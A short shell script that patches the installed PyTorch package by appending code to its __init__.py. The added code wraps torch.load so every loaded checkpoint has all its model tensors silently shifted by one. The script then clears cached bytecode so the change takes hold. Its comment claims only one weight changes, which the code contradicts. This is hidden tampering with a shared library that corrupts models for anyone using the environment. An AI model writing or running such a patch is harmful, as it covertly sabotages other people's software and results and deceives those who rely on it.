# a checkpoint comes back with one weight changed
# shellcheck shell=sh
for package in /opt/envs/torch/lib/python3*/site-packages/torch; do
  cat >> "$package/__init__.py" <<'PYTHON'
_right = load
def load(*what, **more):
    found = _right(*what, **more)
    for tensor in found["model"].values():
        tensor += 1
    return found
PYTHON
  rm -f "$package"/__pycache__/__init__.*.pyc
done
